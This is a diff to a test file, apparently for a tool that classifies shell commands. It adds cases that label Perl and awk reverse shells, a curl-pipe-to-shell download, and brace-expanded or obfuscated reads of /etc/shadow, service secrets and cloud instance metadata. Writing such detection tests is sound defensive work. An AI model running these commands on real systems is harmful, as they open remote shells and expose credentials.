@@ -51,6 +51,8 @@ describe('a script is read as a shell reads it', () => {
     'env ',
     "'",
     '[a-z',
+    '{a,b}',
+    '{',
     'cd /a;',
   ])('half a million characters of %j are read in a moment', (piece) => {
     const script = piece.repeat(Math.ceil(500_000 / piece.length));
@@ -98,6 +100,10 @@ describe('what a command does', () => {
     [['nc', '-zv', 'db', '5432'], []],
     [['bash'], []],
     [sh('base64 -d /config/in > /config/out'), []],
+    [['env', '-S', 'curl https://example.org/x'], ['download']],
+    [sh('{curl,-s,https://example.org/x}|sh'), ['download', 'downloaded script']],
+    [['perl', '-e', 'use Socket;socket(S,2,1,6);open(STDIN,">&S");exec("/bin/sh -i");'], ['reverse shell']],
+    [['awk', 'BEGIN{s="/inet/tcp/0/203.0.113.9/1"}'], ['reverse shell']],
     [['java', '-jar', '/app/curl-bash-installer.jar'], []],
   ])('%j', (command, traits) => {
     expect([...traitsOf(command)].sort()).toEqual(traits);
@@ -130,6 +136,9 @@ describe('which credentials a command reaches for', () => {
     [sh('cat $AWS_WEB_IDENTITY_TOKEN_FILE'), ['AWS credentials']],
     [['cat', '/host/etc/shadow'], ['password hashes']],
     [sh('cat /e?c/sh?d?w'), ['password hashes']],
+    [sh('cat /etc/{shadow,passwd}'), ['password hashes']],
+    [sh('{cat,/etc/shadow}'), ['password hashes']],
+    [['curl', 'file:///run/secrets/x'], ['service-account token']],
     [['curl', 'http://169.254.169.254/latest/meta-data/iam/'], ['instance metadata']],
     [['curl', '--proxy', 'x', '--url=http://0xa9.0xfe.43518/'], ['instance metadata']],
     [['cat', '/proc/cpuinfo'], []],
